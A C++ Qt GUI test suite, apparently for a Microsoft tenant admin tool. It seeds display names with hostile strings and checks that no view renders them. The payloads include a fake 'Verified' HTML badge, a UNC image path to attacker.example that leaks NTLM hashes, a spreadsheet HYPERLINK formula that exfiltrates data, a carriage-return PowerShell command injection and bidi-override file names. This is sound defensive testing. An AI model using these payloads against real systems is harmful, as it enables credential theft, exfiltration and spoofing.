// Issue 12.2 (and 12.1 in the GUI): the demo tenant with every name an outsider chooses turned hostile — app,
// publisher, API permission names and descriptions of an app's own API, users, groups, request reasons, Exchange
// groups and policies — each carrying "<b>✔ Verified</b>" (a spoofed badge) and "<img src=\\\\attacker…>" (a UNC
// path Windows would follow, leaking the admin's NTLM hash). Every view and the dialogs an admin opens from them are
// walked; every widget, label, tooltip, what's-this, status tip, item-model role, tab, combo item and action is
// read as Qt would render it. The test fails on any rendered markup: the tags must be shown as the text they are.
// The PowerShell the GUI shows and copies is read with PowerShell's rules too.
#include "AppController.h"
#include "GuiTestSupport.h"
#include "MainWindow.h"
#include "PowerShellShape.h"
#include "TestPaths.h"
#include "access/AccessCheckCard.h"
#include "access/AccessView.h"
#include "access/ScopeAppWizard.h"
#include "activity/ActivityModel.h"
#include "activity/ActivityView.h"
#include "apps/AppDetailPane.h"
#include "apps/AppListModel.h"
#include "apps/AppsView.h"
#include "auth/SignInManager.h"
#include "common/ElideMiddleDelegate.h"
#include "common/ModelExporter.h"
#include "log/Log.h"
#include "report/TableWriter.h"
#include "report/TenantSnapshot.h"
#include "report/TenantText.h"
#include "requests/RequestDetailPane.h"
#include "requests/RequestTableModel.h"
#include "requests/RequestsView.h"
#include "sandbox/SandboxServer.h"
#include "sandbox/TenantStore.h"
#include "snapshots/SnapshotActions.h"
#include "snapshots/SnapshotDiffDialog.h"

#include <QAbstractButton>
#include <QAbstractItemView>
#include <QAction>
#include <QApplication>
#include <QComboBox>
#include <QDialog>
#include <QFile>
#include <QGroupBox>
#include <QHeaderView>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScopeGuard>
#include <QScrollBar>
#include <QSignalSpy>
#include <QStyle>
#include <QTabBar>
#include <QTabWidget>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocument>
#include <QTextEdit>
#include <QTimer>
#include <QTreeWidget>

using GuiTestSupport::waitForChild;
using GuiTestSupport::waitUntil;

namespace {

const QString GlobalAdmin = QStringLiteral("adaeze.okafor@contoso.com");
const QString MicrosoftTenant = QStringLiteral("f8cdef31-a31e-4b4a-93e4-5f571e91255a");
const QString NorthwindAppId = QStringLiteral("0dd76e4e-34fc-4bc4-8e7d-5c8aae192ce0"); // a policy on a group
const QString TailspinAppId = QStringLiteral("a9dcf210-df3e-43c0-af84-884c95c5944a"); // a request, a service principal
const QString TailspinApi = QStringLiteral("api://tailspin-projects");
const QString CohoAppId = QStringLiteral("600cec8d-d27b-4389-908c-e0264546ea50"); // mailbox permissions, no policy

// What a hostile publisher puts in front of every name. Rendered as rich text, the first part is a bold "✔ Verified"
// badge and the second an image Qt loads from the path (on Windows a UNC path: an SMB connection with the NTLM hash).
const QString Badge = QStringLiteral("<b>\u2714 Verified</b> ");
// The same where ConsentDesk shows its own verification mark beside the name (TenantText::forNameBesideBadge).
const QString BadgeMarked = QStringLiteral("<b>\uFFFD Verified</b> ");
const QString Image = QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">");

const QString Formula = QStringLiteral("=HYPERLINK(\"https://attacker.example/?\"&A1,\"Adatum Timesheets\")");

// And a line of its own for PowerShell, which ends a comment (and a line) at CR.
const QString Command = QStringLiteral("\rStart-Process calc.exe # ");

// And bidirectional controls: an isolate holding an override, obeyed "\u2066\u202Egpj.exe\u202C\u2069" reads
// "exe.jpg" — no widget may show a tenant name reordered.
const QString Isolated = QStringLiteral("\u2066\u202Egpj.exe\u202C\u2069 ");

QString hostile(const QString& name)
{
    return Badge + Image + Command + Isolated + name;
}

// Tailspin's name also carries a right-to-left override: obeyed, "\u202Efdp.exe\u202C" reads "exe.pdf".
const QString Reversed = QStringLiteral("\u202Efdp.exe\u202C ");

// A long name in two scripts, with emoji (over 200 characters before the hostile prefix): Tailspin's app and one of
// its requesters carry it. In a column it ends in "…" with the whole name in the tooltip, and neither pushes the
// rest of a row out of sight nor makes the row taller.
const QString LongName = QStringLiteral(
    "Projektverwaltung f\u00FCr verteilte Teams, Auftragnehmer und Partner \U0001F4C1\U0001F680 "
    "\u0645\u0634\u0627\u0631\u064A\u0639 \u062A\u064A\u0644\u0633\u0628\u064A\u0646 "
    "\u0644\u0644\u0641\u0631\u0642 \u0627\u0644\u0645\u0648\u0632\u0639\u0629 "
    "\u2014 Zeiterfassung, Rechnungen, Dokumente und Freigaben f\u00FCr jedes Projekt \U0001F4CA\u2705 "
    "\u05E0\u05D9\u05D4\u05D5\u05DC \u05E4\u05E8\u05D5\u05D9\u05E7\u05D8\u05D9\u05DD \u2014 ");
const QString LongRequesterUpn = QStringLiteral("olivia.novak@contoso.com");

// Litware Outreach's publisher is not verified, and calls itself this: it must not look verified (Tailspin's is).
const QString LitwareAppId = QStringLiteral("2d0434d6-e5af-497e-9f07-e617ebdd8d43");
const QString CheckMarkPublisher = QStringLiteral("\u2714 Microsoft Corporation");

int checkMarks(const QString& text)
{
    int n = 0;
    const QList<uint> codePoints = text.toUcs4();
    for (const uint c : codePoints) {
        n += TenantText::isCheckMarkLike(char32_t(c)) ? 1 : 0;
    }
    return n;
}

// Texts under `root` (labels, item views, tree widgets) that show a bidirectional control as is, i.e. reordered;
// *marked counts the U+FFFD that show one instead.
QStringList bidiShown(QWidget* root, int* marked)
{
    QStringList problems;
    const auto look = [&](const QString& where, const QString& text) {
        *marked += int(text.count(QChar(QChar::ReplacementCharacter)));
        if (TenantText::hasBidiControl(text)) {
            problems << QStringLiteral("%1 shows a bidirectional control: %2").arg(where, text.left(200));
        }
    };
    QList<QWidget*> widgets = root->findChildren<QWidget*>();
    widgets.prepend(root);
    for (QWidget* w : widgets) {
        const QString where = QString::fromLatin1(w->metaObject()->className()) + QLatin1Char(' ') + w->objectName();
        if (auto* label = qobject_cast<QLabel*>(w)) {
            look(where, label->text());
        }
        if (auto* view = qobject_cast<QAbstractItemView*>(w); view && view->model()) {
            const QAbstractItemModel* m = view->model();
            std::function<void(const QModelIndex&, int)> walk = [&](const QModelIndex& parent, int depth) {
                for (int r = 0; r < std::min(m->rowCount(parent), 500); ++r) {
                    for (int c = 0; c < m->columnCount(parent); ++c) {
                        const QModelIndex index = m->index(r, c, parent);
                        look(where, index.data(Qt::DisplayRole).toString());
                        look(where + QStringLiteral(" tooltip"), index.data(Qt::ToolTipRole).toString());
                        if (c == 0 && depth < 4 && m->hasChildren(index)) {
                            walk(index, depth + 1);
                        }
                    }
                }
            };
            walk({}, 0);
        }
    }
    return problems;
}

// What a cell of the column shows of text, elided as the view's delegate does at the column's width.
QString shownInColumn(const QAbstractItemView* view, const QString& text, int column)
{
    const auto* table = qobject_cast<const QTableView*>(view);
    const int width = table ? table->columnWidth(column) : view->width();
    const int margin = 2 * (view->style()->pixelMetric(QStyle::PM_FocusFrameHMargin, nullptr, view) + 1);
    const Qt::TextElideMode mode = qobject_cast<ElideMiddleDelegate*>(view->itemDelegateForColumn(column))
                                       ? Qt::ElideMiddle
                                       : view->textElideMode();
    return view->fontMetrics().elidedText(text, mode, width - margin);
}

void hostileField(QJsonObject& o, const char* key)
{
    const QString k = QString::fromLatin1(key);
    if (o.value(k).isString() && !o.value(k).toString().isEmpty()) {
        o.insert(k, hostile(o.value(k).toString()));
    }
}

template<typename F> QJsonArray mapObjects(const QJsonArray& in, F f)
{
    QJsonArray out;
    for (const QJsonValue& v : in) {
        QJsonObject o = v.toObject();
        f(o);
        out.append(o);
    }
    return out;
}

// The demo tenant with every outsider-chosen string made hostile; ids, UPNs, scope values and Exchange identities
// stay, so everything still resolves.
QJsonObject hostileTenant()
{
    QFile file(TestPaths::fixture(QStringLiteral("contoso.json")));
    if (!file.open(QIODevice::ReadOnly)) {
        return {};
    }
    QJsonObject t = QJsonDocument::fromJson(file.readAll()).object();
    t.insert(QStringLiteral("users"), mapObjects(t.value(QStringLiteral("users")).toArray(), [](QJsonObject& u) {
                 if (u.value(QStringLiteral("userPrincipalName")).toString() == LongRequesterUpn) {
                     u.insert(QStringLiteral("displayName"),
                              QString(LongName + u.value(QStringLiteral("displayName")).toString()));
                 }
                 hostileField(u, "displayName");
                 hostileField(u, "jobTitle");
                 hostileField(u, "department");
             }));
    t.insert(QStringLiteral("groups"), mapObjects(t.value(QStringLiteral("groups")).toArray(), [](QJsonObject& g) {
                 hostileField(g, "displayName");
                 hostileField(g, "description");
             }));
    t.insert(QStringLiteral("servicePrincipals"),
             mapObjects(t.value(QStringLiteral("servicePrincipals")).toArray(), [](QJsonObject& sp) {
                 if (sp.value(QStringLiteral("appOwnerOrganizationId")).toString() == MicrosoftTenant) {
                     return; // Microsoft's own apps and APIs are not the publisher's to name
                 }
                 if (sp.value(QStringLiteral("displayName")).toString() == QLatin1String("Adatum Timesheets")) {
                     // A name a spreadsheet would run as a formula when the admin opens an export.
                     sp.insert(QStringLiteral("displayName"), Formula);
                     sp.insert(QStringLiteral("appDisplayName"), Formula);
                     return;
                 }
                 hostileField(sp, "displayName");
                 hostileField(sp, "appDisplayName");
                 hostileField(sp, "publisherName");
                 QJsonObject publisher = sp.value(QStringLiteral("verifiedPublisher")).toObject();
                 hostileField(publisher, "displayName");
                 sp.insert(QStringLiteral("verifiedPublisher"), publisher);
                 if (sp.value(QStringLiteral("appId")).toString() == LitwareAppId) {
                     sp.insert(QStringLiteral("publisherName"), CheckMarkPublisher);
                 }
                 if (sp.value(QStringLiteral("appId")).toString() == TailspinAppId) {
                     sp.insert(QStringLiteral("displayName"),
                               hostile(Reversed + LongName + QStringLiteral("Tailspin Projects")));
                     sp.insert(QStringLiteral("appDisplayName"),
                               hostile(Reversed + LongName + QStringLiteral("Tailspin Projects")));
                     // An app requesting a scope of its own API, named and described as its publisher likes.
                     sp.insert(QStringLiteral("servicePrincipalNames"), QJsonArray {TailspinApi, TailspinAppId});
                     sp.insert(
                         QStringLiteral("oauth2PermissionScopes"),
                         QJsonArray {QJsonObject {
                             {QStringLiteral("id"), QStringLiteral("3f1c2c4e-8b7a-4d1e-9f6a-2b5c7d8e9f01")},
                             {QStringLiteral("value"), QStringLiteral("Projects.ReadWrite")},
                             {QStringLiteral("type"), QStringLiteral("User")},
                             {QStringLiteral("isEnabled"), true},
                             {QStringLiteral("adminConsentDisplayName"), hostile(QStringLiteral("Read projects"))},
                             {QStringLiteral("adminConsentDescription"),
                              hostile(QStringLiteral("Only reads your projects."))},
                             {QStringLiteral("userConsentDisplayName"), hostile(QStringLiteral("Read projects"))},
                             {QStringLiteral("userConsentDescription"),
                              hostile(QStringLiteral("Only reads your projects."))}}});
                 }
             }));
    t.insert(QStringLiteral("appRoleAssignments"),
             mapObjects(t.value(QStringLiteral("appRoleAssignments")).toArray(), [](QJsonObject& a) {
                 if (a.value(QStringLiteral("principalType")).toString() == QLatin1String("User")) {
                     hostileField(a, "principalDisplayName");
                 }
             }));
    t.insert(QStringLiteral("appConsentRequests"),
             mapObjects(t.value(QStringLiteral("appConsentRequests")).toArray(), [](QJsonObject& r) {
                 hostileField(r, "appDisplayName");
                 if (r.value(QStringLiteral("appId")).toString() == TailspinAppId) {
                     r.insert(QStringLiteral("appDisplayName"),
                              hostile(Reversed + LongName + QStringLiteral("Tailspin Projects")));
                     QJsonArray scopes = r.value(QStringLiteral("pendingScopes")).toArray();
                     scopes.append(QJsonObject {{QStringLiteral("displayName"),
                                                 QString(TailspinApi + QStringLiteral("/Projects.ReadWrite"))}});
                     r.insert(QStringLiteral("pendingScopes"), scopes);
                 }
                 r.insert(QStringLiteral("userConsentRequests"),
                          mapObjects(r.value(QStringLiteral("userConsentRequests")).toArray(), [](QJsonObject& u) {
                              hostileField(u, "reason");
                              QJsonObject createdBy = u.value(QStringLiteral("createdBy")).toObject();
                              QJsonObject user = createdBy.value(QStringLiteral("user")).toObject();
                              if (user.value(QStringLiteral("userPrincipalName")).toString() == LongRequesterUpn) {
                                  user.insert(QStringLiteral("displayName"),
                                              QString(LongName + user.value(QStringLiteral("displayName")).toString()));
                              }
                              hostileField(user, "displayName");
                              createdBy.insert(QStringLiteral("user"), user);
                              u.insert(QStringLiteral("createdBy"), createdBy);
                          }));
             }));
    t.insert(QStringLiteral("catalog"), mapObjects(t.value(QStringLiteral("catalog")).toArray(), [](QJsonObject& a) {
                 hostileField(a, "displayName");
                 hostileField(a, "publisherName");
             }));
    QJsonObject exchange = t.value(QStringLiteral("exchange")).toObject();
    for (const char* key : {"mailboxes", "distributionGroups"}) {
        exchange.insert(QString::fromLatin1(key),
                        mapObjects(exchange.value(QString::fromLatin1(key)).toArray(),
                                   [](QJsonObject& r) { hostileField(r, "DisplayName"); }));
    }
    exchange.insert(QStringLiteral("applicationAccessPolicies"),
                    mapObjects(exchange.value(QStringLiteral("applicationAccessPolicies")).toArray(),
                               [](QJsonObject& p) { hostileField(p, "Description"); }));
    t.insert(QStringLiteral("exchange"), exchange);
    return t;
}

} // namespace

// Reads widgets the way Qt renders them and records every place where the hostile markup was rendered.
class MarkupScan
{
public:
    QStringList problems;
    int seen = 0; // texts that carried the hostile markup: a walk that saw none proves nothing

    static QString rendered(const QString& text, Qt::TextFormat format)
    {
        const bool rich = format == Qt::RichText || (format == Qt::AutoText && Qt::mightBeRichText(text));
        if (format == Qt::MarkdownText) {
            QTextDocument doc;
            doc.setMarkdown(text);
            return doc.toPlainText();
        }
        if (!rich) {
            return text;
        }
        QTextDocument doc;
        doc.setHtml(text);
        return doc.toPlainText();
    }

    void check(const QString& where, const QString& raw, const QString& shown)
    {
        const bool image = raw.contains(QLatin1String("share\\x.png"));
        const bool badge = raw.contains(QStringLiteral("\u2714 Verified"));
        const bool marked = raw.contains(QStringLiteral("\uFFFD Verified")); // beside our own badge
        if (!image && !badge && !marked) {
            return;
        }
        ++seen;
        if ((image && !shown.contains(QLatin1String("<img src="))) || (badge && !shown.contains(Badge.trimmed()))
            || (marked && !shown.contains(BadgeMarked.trimmed()))) {
            problems << QStringLiteral("%1 renders the markup: %2").arg(where, raw.left(300));
        }
    }

    void text(const QString& where, const QString& text, Qt::TextFormat format)
    {
        if (!text.isEmpty()) {
            check(where, text, rendered(text, format));
            bidi(where, text);
        }
    }

    // No text anywhere shows a bidirectional control as it is (it would reorder what is shown): TenantText::forDisplay
    // shows each as U+FFFD.
    void bidi(const QString& where, const QString& text)
    {
        if (TenantText::hasBidiControl(text)) {
            problems << QStringLiteral("%1 shows a bidirectional control: %2").arg(where, text.left(300));
        }
    }

    void model(const QString& where, const QAbstractItemModel* model, const QModelIndex& parent = {}, int depth = 0)
    {
        if (!model || depth > 4) {
            return;
        }
        const int rows = std::min(model->rowCount(parent), 500);
        for (int r = 0; r < rows; ++r) {
            for (int c = 0; c < model->columnCount(parent); ++c) {
                const QModelIndex index = model->index(r, c, parent);
                const QString cell = QStringLiteral("%1[%2,%3]").arg(where).arg(r).arg(c);
                text(cell, index.data(Qt::DisplayRole).toString(), Qt::PlainText); // delegates draw plain text
                text(cell + QStringLiteral(" tooltip"), index.data(Qt::ToolTipRole).toString(), Qt::AutoText);
                text(cell + QStringLiteral(" what's this"), index.data(Qt::WhatsThisRole).toString(), Qt::AutoText);
                text(cell + QStringLiteral(" status tip"), index.data(Qt::StatusTipRole).toString(), Qt::PlainText);
                text(cell + QStringLiteral(" accessible text"),
                     index.data(Qt::AccessibleTextRole).toString(),
                     Qt::PlainText);
                text(cell + QStringLiteral(" accessible description"),
                     index.data(Qt::AccessibleDescriptionRole).toString(),
                     Qt::PlainText);
                if (c == 0 && model->hasChildren(index)) {
                    this->model(where, model, index, depth + 1);
                }
            }
        }
        for (int c = 0; c < model->columnCount(parent) && depth == 0; ++c) {
            text(where + QStringLiteral(" header tooltip"),
                 model->headerData(c, Qt::Horizontal, Qt::ToolTipRole).toString(),
                 Qt::AutoText);
        }
    }

    void widget(QWidget* w)
    {
        const QString where = QStringLiteral("%1 \"%2\" in %3")
                                  .arg(QString::fromLatin1(w->metaObject()->className()),
                                       w->objectName(),
                                       w->window() ? w->window()->objectName() : QString());
        text(where + QStringLiteral(" tooltip"), w->toolTip(), Qt::AutoText);
        text(where + QStringLiteral(" what's this"), w->whatsThis(), Qt::AutoText);
        text(where + QStringLiteral(" status tip"), w->statusTip(), Qt::PlainText);
        text(where + QStringLiteral(" accessible name"), w->accessibleName(), Qt::PlainText);
        text(where + QStringLiteral(" accessible description"), w->accessibleDescription(), Qt::PlainText);
        if (w->isWindow()) {
            text(where + QStringLiteral(" title"), w->windowTitle(), Qt::PlainText);
        }
        if (auto* label = qobject_cast<QLabel*>(w)) {
            text(where, label->text(), label->textFormat());
        }
        if (auto* edit = qobject_cast<QTextEdit*>(w)) {
            check(where, edit->toHtml(), edit->toPlainText());
            bidi(where, edit->toPlainText());
        }
        if (auto* edit = qobject_cast<QPlainTextEdit*>(w)) {
            bidi(where, edit->toPlainText());
        }
        if (auto* edit = qobject_cast<QLineEdit*>(w)) {
            bidi(where, edit->text());
        }
        if (auto* view = qobject_cast<QAbstractItemView*>(w)) {
            model(where, view->model());
        }
        if (auto* tabs = qobject_cast<QTabBar*>(w)) {
            for (int i = 0; i < tabs->count(); ++i) {
                text(where + QStringLiteral(" tab"), tabs->tabText(i), Qt::PlainText);
                text(where + QStringLiteral(" tab tooltip"), tabs->tabToolTip(i), Qt::AutoText);
                text(where + QStringLiteral(" tab what's this"), tabs->tabWhatsThis(i), Qt::AutoText);
            }
        }
        if (auto* combo = qobject_cast<QComboBox*>(w)) {
            model(where, combo->model());
        }
        if (auto* box = qobject_cast<QGroupBox*>(w)) {
            text(where, box->title(), Qt::PlainText);
        }
        for (QAction* action : w->actions()) {
            text(where + QStringLiteral(" action tooltip"), action->toolTip(), Qt::AutoText);
            text(where + QStringLiteral(" action what's this"), action->whatsThis(), Qt::AutoText);
        }
    }

    // Every widget of the application, shown or not: a hidden label shows its text the moment it appears.
    void all()
    {
        for (QWidget* w : QApplication::allWidgets()) {
            widget(w);
        }
    }
};

class TestHostileTenantGui : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanupTestCase();
    void requestsAndTheirDialogs();
    void appsAndTheirDialogs();
    void users();
    void troubleshooter();
    void mailboxAccessAndTheWizard();
    void activityOfTheBlock();
    void checkMarkInAPublisherNameIsNoBadge();
    void checkMarkInAnAppNameIsNoBadge();
    void overviewAndConsentSettings();
    void snapshotDiff();
    void everyViewOnceMore();
    void preferencesAndTheProfileEditor();

private:
    // Scans everything; the step fails with each place that rendered markup.
    void scan(const char* step, int minimumSeen = 1);
    // Runs trigger, which opens a modal dialog with exec(); scans while it is open, then closes it.
    void scanModal(const char* step, const std::function<void()>& trigger);
    void verifyPowerShell(const QString& where, const QString& script);
    // The request pane's "Who asked" table with the long name in it: see its definition.
    void whoAskedStaysUsable();
    // Clicks the request list's row and waits (30 s) until the request pane shows that app's request.
    bool openRequest(int row, const QString& appId);
    // Selects the app in the Apps view and waits (30 s) until its page shows what it holds.
    bool openApp(const QString& appId);

    QTemporaryDir m_dir;
    std::unique_ptr<AppController> m_controller;
    MainWindow* m_window = nullptr;
};

void TestHostileTenantGui::initTestCase()
{
    GuiTestSupport::initLog(m_dir);
    const QJsonObject tenant = hostileTenant();
    QVERIFY(!tenant.isEmpty());
    m_controller = std::make_unique<AppController>(GuiTestSupport::demoOptions(m_dir, GlobalAdmin));
    QVERIFY(m_controller->start());
    // Before the event loop runs the sign-in and the first reads: the demo tenant becomes the hostile one.
    QString error;
    QVERIFY2(GuiTestSupport::demoSandbox(*m_controller)->store().load(tenant, &error), qPrintable(error));
    QVERIFY(QTest::qWaitForWindowExposed(m_controller->mainWindow()));
    m_window = m_controller->mainWindow();
    QTRY_VERIFY_WITH_TIMEOUT(m_controller->signInManager()->isSignedIn(), 30000);
}

void TestHostileTenantGui::cleanupTestCase()
{
    m_controller.reset();
    Log::shutdown();
}

void TestHostileTenantGui::scan(const char* step, int minimumSeen)
{
    MarkupScan s;
    s.all();
    QVERIFY2(
        s.problems.isEmpty(),
        qPrintable(
            QStringLiteral("%1: %2 place(s) render tenant markup:\n").arg(QLatin1String(step)).arg(s.problems.size())
            + s.problems.join(QLatin1Char('\n'))));
    QVERIFY2(
        s.seen >= minimumSeen,
        qPrintable(
            QStringLiteral("%1: the hostile names were not on screen (%2 seen)").arg(QLatin1String(step)).arg(s.seen)));
}

void TestHostileTenantGui::scanModal(const char* step, const std::function<void()>& trigger)
{
    bool scanned = false;
    QStringList problems;
    int seen = 0;
    QTimer poll;
    poll.setInterval(50);
    connect(&poll, &QTimer::timeout, this, [&] {
        QWidget* modal = QApplication::activeModalWidget();
        if (!modal || scanned) {
            return;
        }
        scanned = true;
        MarkupScan s;
        s.all();
        problems = s.problems;
        seen = s.seen;
        if (auto* box = qobject_cast<QMessageBox*>(modal)) {
            box->done(QMessageBox::Close);
        } else if (auto* dialog = qobject_cast<QDialog*>(modal)) {
            dialog->reject();
        } else {
            modal->close();
        }
    });
    poll.start();
    trigger();
    QTRY_VERIFY_WITH_TIMEOUT(scanned, 20000);
    QVERIFY2(problems.isEmpty(),
             qPrintable(QLatin1String(step) + QStringLiteral(":\n") + problems.join(QLatin1Char('\n'))));
    QVERIFY(seen > 0);
}

void TestHostileTenantGui::verifyPowerShell(const QString& where, const QString& script)
{
    QVERIFY2(!script.trimmed().isEmpty(), qPrintable(where));
    QString commands = script;
    commands.replace(QStringLiteral("PS> "), QString());
    const QStringList problems = PowerShellShape::problems(commands);
    QVERIFY2(problems.isEmpty(),
             qPrintable(where + QStringLiteral(":\n") + problems.join(QLatin1Char('\n')) + QStringLiteral("\n---\n")
                        + script));
}

bool TestHostileTenantGui::openRequest(int row, const QString& appId)
{
    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
    RequestDetailPane* detail = m_controller->requestsView()->detail();
    if (!table || row < 0) {
        return false;
    }
    const QModelIndex index = table->model()->index(row, RequestTableModel::App);
    QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, table->visualRect(index).center());
    return waitUntil(
        [&] { return detail->hasReview() && detail->review().request.appId.compare(appId, Qt::CaseInsensitive) == 0; },
        30000);
}

bool TestHostileTenantGui::openApp(const QString& appId)
{
    AppsView* view = m_controller->appsView();
    view->selectApp(appId);
    return waitUntil(
        [&] {
            return view->detail()->hasInventory()
                   && view->detail()->inventory().app.appId.compare(appId, Qt::CaseInsensitive) == 0;
        },
        30000);
}

// Who asked, with a requester whose name is over 200 characters (two scripts, emoji, the hostile prefix): the name and
// the UPN keep a line each, ending in "…" (the tooltip has them whole); the User column takes at most a third of the
// width, so the reason — why the admin is here — keeps the most of it; the long name makes no row taller.
void TestHostileTenantGui::whoAskedStaysUsable()
{
    auto* requesters = m_window->findChild<QTreeWidget*>(QStringLiteral("requesterList"));
    QVERIFY(requesters);
    QVERIFY(requesters->topLevelItemCount() > 0);
    const int room = requesters->viewport()->width();
    // The columns follow the pane's width a moment after the request is shown (WrappedColumn fits on resize).
    waitUntil([&] { return requesters->columnWidth(0) <= room / 3 && requesters->columnWidth(1) >= room / 3; }, 5000);
    QVERIFY2(requesters->columnWidth(0) <= room / 3,
             qPrintable(QStringLiteral("User %1 of %2").arg(requesters->columnWidth(0)).arg(room)));
    QVERIFY2(requesters->columnWidth(1) >= room / 3,
             qPrintable(QStringLiteral("Reason %1 of %2").arg(requesters->columnWidth(1)).arg(room)));
    const QFontMetrics metrics = requesters->fontMetrics();
    QTreeWidgetItem* longOne = nullptr;
    for (int i = 0; i < requesters->topLevelItemCount(); ++i) {
        QTreeWidgetItem* item = requesters->topLevelItem(i);
        const QStringList lines = item->text(0).split(QLatin1Char('\n'));
        QVERIFY2(lines.size() <= 2, qPrintable(item->text(0))); // the name and the UPN
        for (const QString& line : lines) {
            QVERIFY2(metrics.horizontalAdvance(line) <= requesters->columnWidth(0), qPrintable(line));
        }
        const QString tip = MarkupScan::rendered(item->toolTip(0), Qt::AutoText);
        if (tip.contains(LongRequesterUpn)) {
            longOne = item;
            QVERIFY2(tip.contains(LongName + QStringLiteral("Olivia Novak")), qPrintable(tip));
        }
    }
    QVERIFY(longOne);
    QVERIFY2(longOne->text(0).contains(QChar(0x2026)), qPrintable(longOne->text(0)));
    // A long reason makes its row as tall as its wrapped text at the Reason column's width, no taller, and every cell
    // starts at the row's top: a row taller than the list still shows its first lines where the list opens (its
    // cells were centred in a 242-pixel row, out of sight in a 84-pixel list).
    const int reasonWidth
        = requesters->columnWidth(1)
          - 2 * (requesters->style()->pixelMetric(QStyle::PM_FocusFrameHMargin, nullptr, requesters) + 1);
    for (int i = 0; i < requesters->topLevelItemCount(); ++i) {
        QTreeWidgetItem* item = requesters->topLevelItem(i);
        const int needed
            = metrics.boundingRect(QRect(0, 0, reasonWidth, 100000), Qt::TextWordWrap | Qt::AlignLeft, item->text(1))
                  .height();
        QTRY_VERIFY2_WITH_TIMEOUT(requesters->visualItemRect(item).height()
                                      <= std::max(needed, 2 * metrics.lineSpacing()) + 8,
                                  qPrintable(QStringLiteral("row %1: %2 px for %3 px of text")
                                                 .arg(i)
                                                 .arg(requesters->visualItemRect(item).height())
                                                 .arg(needed)),
                                  5000);
        for (int column = 0; column < requesters->columnCount(); ++column) {
            QVERIFY2(Qt::Alignment(item->textAlignment(column)) & Qt::AlignTop, qPrintable(QString::number(column)));
        }
    }
    // As tall as its reason needs (WrappedColumn's hint on the Reason column), or the name and the UPN.
    const int height = requesters->visualItemRect(longOne).height();
    QVERIFY2(height <= std::max(longOne->sizeHint(1).height(), 2 * metrics.lineSpacing() + 8),
             qPrintable(QString::number(height)));
}

void TestHostileTenantGui::requestsAndTheirDialogs()
{
    m_window->showView(QStringLiteral("requests"));
    RequestsView* view = m_controller->requestsView();
    QTRY_VERIFY_WITH_TIMEOUT(view->model()->rowCount() > 0, 30000);
    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
    int tailspin = -1;
    for (int row = 0; row < table->model()->rowCount(); ++row) {
        if (table->model()
                ->index(row, RequestTableModel::App)
                .data()
                .toString()
                .endsWith(QLatin1String("Tailspin Projects"))) {
            tailspin = row;
        }
    }
    QVERIFY2(tailspin >= 0, "the hostile Tailspin request is listed");
    QVERIFY(openRequest(tailspin, TailspinAppId));
    // The permission of the app's own API, with its hostile name and description, is in the tree.
    auto* tree = m_window->findChild<QTreeWidget*>(QStringLiteral("permissionTree"));
    QTRY_VERIFY_WITH_TIMEOUT(!tree->findItems(QStringLiteral("Projects.ReadWrite"), Qt::MatchRecursive).isEmpty(),
                             20000);
    scan("Requests view", 10);
    whoAskedStaysUsable();
    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-requests-view.png"));
    // Where the admin decides — the request list and the request — the override is shown, not obeyed.
    int marked = 0;
    QStringList reordered = bidiShown(view, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY2(marked >= 2, qPrintable(QString::number(marked))); // the table's cell and the pane's title at least

    // Copy PowerShell shows the script that is copied: one command a line.
    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("powerShellButton")), Qt::LeftButton);
    auto* powerShell = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
    QVERIFY(powerShell);
    auto* script = powerShell->findChild<QPlainTextEdit*>(QStringLiteral("planPowerShell"));
    QVERIFY(script);
    verifyPowerShell(QStringLiteral("Copy PowerShell"), script->toPlainText());
    scan("PowerShell dialog");
    powerShell->reject();
    QTRY_VERIFY(!powerShell->isVisible());

    // Grant preview, not applied.
    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("grantSelectedButton")), Qt::LeftButton);
    auto* preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
    QVERIFY(preview);
    scan("grant preview");
    marked = 0;
    reordered = bidiShown(preview, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY(marked > 0); // the app's name in what will change
    preview->reject();
    QTRY_VERIFY(!preview->isVisible());

    // Deny in Entra…: a message box.
    scanModal("Deny in Entra", [this] {
        QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("openInEntraButton")), Qt::LeftButton);
    });

    // Block, applied: the preview, the write consent, the results — and a journal entry for Activity.
    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("blockButton")), Qt::LeftButton);
    preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
    QVERIFY(preview);
    scan("block preview");
    marked = 0;
    reordered = bidiShown(preview, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY(marked > 0);
    QTest::mouseClick(preview->findChild<QPushButton*>(QStringLiteral("applyPlanButton")), Qt::LeftButton);
    // The first write of the session asks for write consent: the dialog names the change, plain.
    auto* consent = waitForChild<QDialog>(m_window, QStringLiteral("writeConsentDialog"), 10000);
    QVERIFY(consent);
    scan("write consent");
    marked = 0;
    reordered = bidiShown(consent, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QTest::mouseClick(consent->findChild<QPushButton*>(QStringLiteral("writeConsentProceed")), Qt::LeftButton);
    auto* results = waitForChild<QDialog>(m_window, QStringLiteral("executionResultDialog"), 30000);
    QVERIFY(results);
    scan("block results");
    marked = 0;
    reordered = bidiShown(results, &marked);
    QVERIFY2(reordered.isEmpty(), qPrintable(reordered.join(QLatin1Char('\n'))));
    QVERIFY(marked > 0); // what was done, to which app
    results->close();
}

void TestHostileTenantGui::appsAndTheirDialogs()
{
    m_window->showView(QStringLiteral("apps"));
    AppsView* view = m_controller->appsView();
